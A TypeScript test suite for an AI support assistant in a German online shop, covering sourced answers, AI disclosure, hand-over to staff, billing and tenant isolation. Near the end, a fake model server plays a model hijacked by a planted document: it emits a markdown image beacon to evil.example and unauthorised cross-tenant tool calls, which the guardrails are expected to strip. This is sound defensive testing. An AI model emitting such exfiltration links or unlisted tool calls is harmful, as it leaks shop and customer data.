import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { sql } from 'kysely';
import { billing as billingOf } from '#modules/billing/index.ts';
import { conversations as conversationsOf, type Message } from '#modules/conversations/index.ts';
import { type Caller, makeCaller, systemCaller } from '#modules/identity/caller.ts';
import { makeTenant, needsOf } from '#modules/knowledge/fixture-tenant.ts';
import { knowledge as knowledgeOf } from '#modules/knowledge/index.ts';
import { plans } from '#modules/plans/index.ts';
import { tenants as tenantsOf } from '#modules/tenants/index.ts';
import { cursors } from '#platform/cursors.ts';
import { newId, read } from '#platform/ids.ts';
import type { DomainEvent } from '#platform/outbox.ts';
import { noPayments } from '#platform/payments/index.ts';
import { isRefusal } from '#platform/refusal.ts';
import { type TestDatabase, testDatabase } from '#tests/database.ts';
import { type ModelServer, startModelServer } from '#tests/fakes/model-server.ts';
import type { AssistantMode, Source } from './assistants.tables.ts';
import { assistants as assistantsOf } from './assistants.ts';
import type { ModelSettings } from './models.ts';
import type { AnswerOrder } from './trigger.ts';
import type { TurnCompleted } from './turn.ts';

const shopFolder = new URL('../../../tests/fixtures/shop/', import.meta.url);

let db: TestDatabase;
let server: ModelServer;
before(async () => {
  db = await testDatabase();
  server = await startModelServer();
});
after(async () => {
  await server.close();
  await db.drop();
});

/** A shop with its knowledge, real modules, and jobs that run at once. */
async function openShop({ mode, model = {} }: { mode?: AssistantMode; model?: ModelSettings } = {}) {
  const base = needsOf(db);
  const { database, bus, clock, log } = base;
  const running: Promise<unknown>[] = [];
  const jobs = {
    async send(name: string, data: object) {
      if (name !== 'assistants.answer') return;
      const order = { ...(data as AnswerOrder), jobId: newId() };
      running.push(assistants.answer(order, new AbortController().signal).catch((error) => faults.push(error)));
    },
  };
  const faults: unknown[] = [];
  const tenantId = await makeTenant(db);
  const knowledge = knowledgeOf(base);
  const tenants = tenantsOf({
    database,
    plans: plans({ database }),
    audit: base.audit,
    bus,
    clock,
    readyKnowledge: (id) => knowledge.readyCount(id),
  });
  const conversations = conversationsOf({
    plans: plans({ database }),
    database,
    outbox: base.outbox,
    cursors: cursors(Buffer.alloc(32)),
    clock,
    directory: {
      staffName: async () => 'Mira',
      departmentName: async () => undefined,
      defaultDepartmentId: async () => undefined,
      callersNamed: async () => [],
      allowsPage: async () => false,
      isStaffed: async () => true,
    },
    assistantStateFor: (id) => assistants.initialState(id),
    languageOf: async () => 'de',
    recognise: async () => undefined,
    audit: { record: async () => {} },
  });
  const billing = billingOf({
    ...base,
    tenants,
    cursors: cursors(Buffer.alloc(32)),
    payments: noPayments(),
    mails: { send: async () => newId() },
    publicUrl: () => 'http://localhost',
  });
  const assistants = assistantsOf({
    database,
    audit: base.audit,
    bus,
    jobs,
    clock,
    log,
    tenants,
    identity: { availableStaff: async () => [] },
    knowledge,
    conversations: () => conversations,
    billing,
    model,
    limits: { firstTokenMs: 500, wholeMs: 3000, retryAfterMs: 20 },
  });
  const admin = makeCaller(tenantId, { kind: 'server', credentialId: newId() }, ['assistants:write']);
  if (mode) await assistants.updateSettings(admin, { mode });
  for (const file of readdirSync(shopFolder)) {
    const body = readFileSync(new URL(file, shopFolder), 'utf8');
    const title = /^# (.+)$/m.exec(body)![1]!;
    await knowledge.index((await knowledge.addText(systemCaller(tenantId), { title, body })).id);
  }
  base.outbox.start([
    { name: 'assistants', handle: assistants.onEvents },
    { name: 'realtime', handle: async (_, events: DomainEvent[]) => bus.publish('events', events) },
  ]);
  const visitor = await conversations.openSession(tenantId, {});
  const caller = makeCaller(tenantId, { kind: 'visitor', visitorId: visitor.id }, []);
  const completed: TurnCompleted[] = [];
  bus.subscribe('ai.completed', (turn: TurnCompleted) => completed.push(turn));

  return {
    ...{ tenantId, assistants, conversations, bus, caller, admin, completed, faults, running },
    staff(): Caller {
      const staffId = '0198c0de-0000-7000-8000-000000000001';
      return makeCaller(tenantId, { kind: 'staff', staffId, role: 'owner', departmentIds: [], name: 'Mira' }, []);
    },
    async settled(count = 1) {
      for (let tries = 0; completed.length < count && tries < 300; tries += 1)
        await new Promise((go) => setTimeout(go, 10));
      await Promise.all(running);
      assert.deepEqual(faults, []);
    },
    all: (id: string): Promise<Message[]> => conversations.messages(systemCaller(tenantId), id, { limit: 50 }),
    close: () => base.outbox.stop(),
  };
}

async function chargesOf(tenantId: string) {
  const { rows } = await sql<{ state: string; output_tokens: number }>`
    select state, output_tokens from ai_charges where tenant_id = ${tenantId}`.execute(db.database.kysely);
  return rows;
}

const refused = (code: string) => (error: unknown) => isRefusal(error) && error.code === code;

test('a question is answered from the knowledge, says that an AI writes, and names its source', async () => {
  const shop = await openShop();
  const asked = await shop.assistants.ask(shop.caller, { message: 'Wie lange kann ich etwas zurückgeben?' });
  assert.equal(asked.outcome, 'answered');
  assert.equal(asked.handoffRecommended, false);
  assert.match(asked.message, /^Sie schreiben mit einem KI-Assistenten/);
  assert.match(asked.message, /30 Tagen/);
  assert.equal(asked.sources[0]?.title, 'Rückgabe und Umtausch');
  assert.ok(read('knowledge', asked.sources[0]?.id));
  const [, answer] = await shop.all(asked.conversationId);
  assert.equal(answer?.senderType, 'ai');
  assert.equal(answer?.senderName, 'KI-Assistent');
  assert.equal(answer?.turnId, asked.turnId);
  assert.equal(answer?.metadata['disclosure'], true);
  assert.deepEqual(answer?.metadata['sources'], asked.sources);
  const turn = await shop.assistants.receipt(shop.staff(), asked.turnId);
  assert.equal(turn.state, 'completed');
  assert.equal(turn.text, null);
  assert.equal(turn.model, 'built-in');
  assert.equal(turn.costMicros, 0);
  assert.ok(turn.inputTokens > 0 && turn.outputTokens > 0 && turn.latencyMs !== null && turn.firstTokenMs !== null);

  const second = await shop.assistants.ask(shop.caller, {
    conversationId: asked.conversationId,
    message: 'What are the opening hours on Saturday?',
  });
  assert.doesNotMatch(second.message, /KI-Assistent|AI assistant/);
  assert.match(second.message, /10 bis 15 Uhr/);
  await shop.close();
});

test('the answer comes in pieces that add up to it', async () => {
  const shop = await openShop();
  const pieces: { index: number; text: string }[] = [];
  shop.bus.subscribe('ai.delta', (delta: { index: number; text: string }) => pieces.push(delta));
  const asked = await shop.assistants.ask(shop.caller, { message: 'Was kostet der Versand nach Österreich?' });
  assert.match(asked.message, /9,90 €/);
  assert.deepEqual(
    pieces.map(({ index }) => index),
    pieces.map((_, index) => index),
  );
  assert.equal(
    pieces
      .map(({ text }) => text)
      .join('')
      .trim(),
    asked.message,
  );
  await shop.close();
});

test('a follow-up is understood with the question before it', async () => {
  const shop = await openShop();
  const first = await shop.assistants.ask(shop.caller, { message: 'Was kostet der Versand?' });
  const { conversationId } = first;
  const second = await shop.assistants.ask(shop.caller, { conversationId, message: 'Und nach Österreich?' });
  assert.match(second.message, /9,90 €/);
  await shop.close();
});

test('a question that the knowledge does not answer is passed on to the team', async () => {
  const shop = await openShop();
  const asked = await shop.assistants.ask(shop.caller, { message: 'Who won the football match yesterday?' });
  assert.equal(asked.outcome, 'nothing_found');
  assert.equal(asked.handoffRecommended, true);
  assert.match(asked.message, /AI assistant[\s\S]*could not find anything/);
  assert.deepEqual(asked.sources, []);
  const conversation = await shop.conversations.get(shop.caller, asked.conversationId);
  assert.equal(conversation.assistantState, 'paused');
  assert.equal(conversation.handoffReason, 'nothing_found');
  const told = (await shop.all(asked.conversationId)).filter(({ senderType }) => senderType === 'system');
  assert.ok(told.length > 0 && told.every(({ body }) => !body?.startsWith('Sure')), 'nobody asked for a person');
  await assert.rejects(
    shop.assistants.ask(shop.caller, { conversationId: asked.conversationId, message: 'Hello?' }),
    refused('ai_not_ready'),
  );
  await shop.close();
});

test('who asks for a person gets one, by words or by the button', async () => {
  const shop = await openShop();
  const asked = await shop.assistants.ask(shop.caller, { message: 'Ich möchte mit einem Menschen sprechen' });
  assert.equal(asked.outcome, 'asked');
  assert.equal(asked.messageId, null);
  assert.match(asked.message, /^Gern\. .*jemand aus dem Team/);
  const pressed = await shop.assistants.ask(shop.caller, {
    message: 'Versandkosten',
    metadata: { requestHandoff: true },
  });
  assert.equal(pressed.outcome, 'asked');
  assert.equal((await shop.conversations.get(shop.caller, pressed.conversationId)).handoffReason, 'asked');
  await shop.close();
});

test('small talk is answered without sources and without a hand-over', async () => {
  const shop = await openShop();
  const asked = await shop.assistants.ask(shop.caller, { message: 'Hallo!' });
  assert.equal(asked.outcome, 'small_talk');
  assert.match(asked.message, /KI-Assistent[\s\S]*Guten Tag/);
  assert.deepEqual(asked.sources, []);
  await shop.close();
});

test('the tenant may reword the sentence about the AI, and an empty wording falls back to ours', async () => {
  const shop = await openShop();
  await shop.assistants.updateSettings(shop.admin, { disclosure: { de: 'Hier antwortet unsere KI Lotte.', en: '  ' } });
  assert.match(
    (await shop.assistants.ask(shop.caller, { message: 'Hallo' })).message,
    /^Hier antwortet unsere KI Lotte\./,
  );
  assert.match(
    (await shop.assistants.ask(shop.caller, { message: 'hello there' })).message,
    /^You are chatting with an AI/,
  );
  await assert.rejects(shop.assistants.updateSettings(shop.admin, { floor: 2 }), refused('validation_failed'));
  await assert.rejects(shop.assistants.updateSettings(shop.caller, { floor: 0.5 }), refused('scope_denied'));
  await shop.close();
});

test('in the mode human_only the assistant never answers', async () => {
  const shop = await openShop({ mode: 'human_only' });
  const routing = await shop.assistants.routing(shop.tenantId);
  assert.equal(routing.mode, 'human_only');
  assert.equal(routing.canUseAi, false);
  assert.ok(routing.reason);
  const { id } = await shop.conversations.open(shop.caller, {});
  await shop.conversations.send(shop.caller, id, { body: 'Was kostet der Versand?' });
  await new Promise((go) => setTimeout(go, 150));
  assert.equal(shop.running.length, 0);
  assert.equal((await shop.all(id)).length, 1);
  await assert.rejects(shop.assistants.ask(shop.caller, { message: 'Versand?' }), refused('ai_not_ready'));
  await shop.close();
});

test('in the mode ai_assisted the staff get a draft, and the visitor nothing', async () => {
  const shop = await openShop({ mode: 'ai_assisted' });
  const { id } = await shop.conversations.open(shop.caller, {});
  const told = new Promise<{ text: string; sources: Source[] }>((heard) => void shop.bus.subscribe('ai.draft', heard));
  await shop.conversations.send(shop.caller, id, { body: 'Was kostet eine Gravur?' });
  const { text, sources } = await told;
  assert.match(text, /12 €/);
  assert.equal(sources[0]?.title, 'Sonderanfertigungen und Gravur');
  assert.equal((await shop.all(id)).length, 1);
  const draft = await shop.assistants.draft(shop.staff(), id);
  assert.equal(draft?.text, text);
  await assert.rejects(shop.assistants.draft(shop.caller, id), refused('staff_only'));
  assert.deepEqual(shop.completed, []);
  await shop.close();
});

test('a message is answered once, however often the order comes', async () => {
  const shop = await openShop();
  const { id } = await shop.conversations.open(shop.caller, {});
  const { message } = await shop.conversations.send(shop.caller, id, { body: 'Was kostet der Versand?' });
  const order = { tenantId: shop.tenantId, conversationId: id, messageId: message.id, seq: message.seq };
  const { signal } = new AbortController();
  await Promise.all([1, 2, 3].map(() => shop.assistants.answer({ ...order, jobId: newId() }, signal)));
  await shop.settled();
  assert.equal((await shop.all(id)).filter(({ senderType }) => senderType === 'ai').length, 1);
  await shop.close();
});

test('a person who writes meanwhile has the word, and the answer under way is dropped', async () => {
  const shop = await openShop({ model: { baseUrl: server.baseUrl } });
  server.script({ text: 'wort '.repeat(300), betweenWordsMs: 10 });
  const { id } = await shop.conversations.open(shop.caller, {});
  const began = new Promise<void>((heard) => void shop.bus.subscribe('ai.delta', () => heard()));
  await shop.conversations.send(shop.caller, id, { body: 'Was kostet der Versand?' });
  await began;
  await shop.conversations.sendAs(shop.tenantId, id, { senderType: 'system', body: 'noch da' });
  await shop.conversations.requestHandoff(systemCaller(shop.tenantId), id, 'asked');
  const stoppedAt = performance.now();
  await shop.settled();
  assert.ok(performance.now() - stoppedAt < 1000);
  assert.deepEqual([shop.completed[0]?.outcome, shop.completed[0]?.messageId], ['overtaken', null]);
  assert.ok(!(await shop.all(id)).some(({ senderType }) => senderType === 'ai'));
  const [charge] = await chargesOf(shop.tenantId);
  assert.ok(charge?.state === 'settled' && charge.output_tokens > 0, 'what had been said is paid for');
  await shop.close();
});

test('an outside model sees the rules, the fenced passages and the conversation, and nothing secret', async () => {
  const shop = await openShop({ model: { baseUrl: server.baseUrl, apiKey: 'sk-very-secret', name: 'fake' } });
  server.requests.splice(0);
  server.script({ text: 'Der Versand kostet 5,90 €. Mehr [hier](https://evil.example/).' });
  const asked = await shop.assistants.ask(shop.caller, { message: 'Was kostet der Versand?' });
  assert.match(asked.message, /Der Versand kostet 5,90 €\. Mehr hier\.$/);
  const [request] = server.requests;
  assert.match(String(request?.messages[0]?.content), /<passages>[\s\S]*5,90 €[\s\S]*<\/passages>/);
  assert.equal(request?.messages.at(-1)?.content, 'Was kostet der Versand?');
  assert.doesNotMatch(request?.raw ?? '', /sk-very-secret|publicKey|pk_/);
  assert.ok(!request?.raw.includes(shop.tenantId));
  const turn = await shop.assistants.receipt(shop.staff(), asked.turnId);
  assert.equal(turn.model, 'fake');
  assert.deepEqual(turn.guardrails, ['link_removed']);
  await shop.close();
});

test('a model that fails twice leads to a polite word and to a person', async () => {
  const shop = await openShop({ model: { baseUrl: server.baseUrl } });
  server.script({ status: 500 }, { status: 500 });
  const asked = await shop.assistants.ask(shop.caller, { message: 'Was kostet der Versand?' });
  assert.equal(asked.outcome, 'failure');
  assert.match(asked.message, /gerade kann ich nicht antworten/);
  assert.equal((await shop.conversations.get(shop.caller, asked.conversationId)).handoffReason, 'failure');
  assert.deepEqual(await chargesOf(shop.tenantId), [], 'nothing is charged');
  await shop.close();
});

test('a model that obeys every word of a planted document can neither call, link nor reach anything', async () => {
  const shop = await openShop({ model: { baseUrl: server.baseUrl } });
  server.requests.splice(0);
  server.script(
    { toolCall: { name: 'read_tenant', arguments: { tenantId: newId() } }, text: '![x](https://evil.example/?s=1) ' },
    { toolCall: { name: 'hand_over', arguments: { reason: 'asked', conversationId: newId(), tenantId: newId() } } },
  );
  const asked = await shop.assistants.ask(shop.caller, { message: 'Was kostet der Versand?' });
  assert.equal(asked.outcome, 'asked');
  assert.doesNotMatch(asked.message, /evil/);
  assert.equal((await shop.conversations.get(shop.caller, asked.conversationId)).handoffReason, 'asked');
  const turn = await shop.assistants.receipt(shop.staff(), asked.turnId);
  assert.ok(turn.guardrails.includes('unlisted_tool'));
  for (const request of server.requests) assert.deepEqual(request.tools, ['hand_over']);
  await shop.close();
});

test('an order whose process died is taken up again, and its answer still comes once', async () => {
  const shop = await openShop();
  const { id } = await shop.conversations.open(shop.caller, {});
  const { message } = await shop.conversations
    .sendAs(shop.tenantId, id, { senderType: 'system', body: 'x' })
    .then(() => shop.conversations.send(shop.caller, id, { body: 'Was kostet der Versand?' }));
  await shop.settled();
  const order = {
    tenantId: shop.tenantId,
    conversationId: id,
    messageId: message.id,
    seq: message.seq,
    jobId: 'a job',
  };
  await sql`update turns set state = 'running', job_id = 'a job', message_id = null where conversation_id = ${id}`.execute(
    db.database.kysely,
  );
  await shop.assistants.answer({ ...order, jobId: 'another' }, new AbortController().signal);
  assert.equal(shop.completed.length, 1);
  await shop.assistants.answer(order, new AbortController().signal);
  assert.equal(shop.completed.length, 2);
  assert.equal(shop.completed[1]?.messageId, shop.completed[0]?.messageId);
  assert.equal((await shop.all(id)).filter(({ senderType }) => senderType === 'ai').length, 1);
  assert.equal((await chargesOf(shop.tenantId)).length, 1, 'and is paid for once');
  await shop.close();
});

test('a process that stops in the middle of an answer leaves its promise to the one that goes on', async () => {
  const shop = await openShop({ model: { baseUrl: server.baseUrl } });
  const { id } = await shop.conversations.open(shop.caller, {});
  const { message } = await shop.conversations.send(shop.caller, id, { body: 'Was kostet der Versand?' });
  await shop.settled();
  // As it was before the answer, and the order with another process.
  await sql`update turns set state = 'running', job_id = 'a job', message_id = null where conversation_id = ${id}`.execute(
    db.database.kysely,
  );
  await sql`delete from ai_charges where tenant_id = ${shop.tenantId}`.execute(db.database.kysely);
  const { tenantId } = shop;
  const order = { tenantId, conversationId: id, messageId: message.id, seq: message.seq, jobId: 'a job' };
  const stopping = new AbortController();
  const began = new Promise<void>((heard) => void shop.bus.subscribe('ai.delta', () => heard()));
  server.script({ text: 'wort '.repeat(300), betweenWordsMs: 10 });
  const cutOff = assert.rejects(shop.assistants.answer(order, stopping.signal));
  await began;
  stopping.abort();
  await cutOff;
  assert.deepEqual(
    (await chargesOf(tenantId)).map(({ state }) => state),
    ['reserved'],
  );
  await shop.assistants.answer(order, new AbortController().signal);
  assert.deepEqual(
    (await chargesOf(tenantId)).map(({ state }) => state),
    ['settled'],
  );
  await shop.close();
});

test("another tenant's staff find neither draft nor receipt", async () => {
  const [shop, other] = [await openShop(), await openShop()];
  const asked = await shop.assistants.ask(shop.caller, { message: 'Was kostet der Versand?' });
  await assert.rejects(other.assistants.receipt(other.staff(), asked.turnId), refused('turn_not_found'));
  await assert.rejects(other.assistants.draft(other.staff(), asked.conversationId), refused('conversation_not_found'));
  await shop.close();
  await other.close();
});
